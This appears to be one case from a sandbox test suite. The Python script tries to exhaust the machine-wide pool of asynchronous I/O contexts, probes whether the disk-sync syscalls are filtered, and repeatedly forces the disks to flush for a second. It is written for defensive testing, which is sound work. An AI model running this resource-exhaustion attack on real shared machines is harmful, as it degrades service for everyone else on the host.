"""R36  Uses up what there is one of for the whole machine: requests for asynchronous input and output; and has the machine's disks write out all they hold, over and over.
EXPECT wrong cpu timed-out crashed
"""
import ctypes
import os
import time

import armed

BY_FILE = {"fsync": 74, "fdatasync": 75, "sync_file_range": 277, "syncfs": 306}
IO_SETUP = 206


def attack():
    armed.ran("R36")
    armed.probe("asynchronous input and output", lambda: armed.call(IO_SETUP, armed.most(60000), ctypes.byref(ctypes.c_ulong())))
    for name, number in BY_FILE.items():
        # there is no file -1, which only who looks for it can say
        armed.probe("write out by " + name, lambda: not armed.call(number, -1, 0, 0, 0))
    folder, end = os.open("/task/sub", os.O_RDONLY), time.monotonic() + 1
    while time.monotonic() < end:
        os.sync()
        armed.call(BY_FILE["syncfs"], folder)
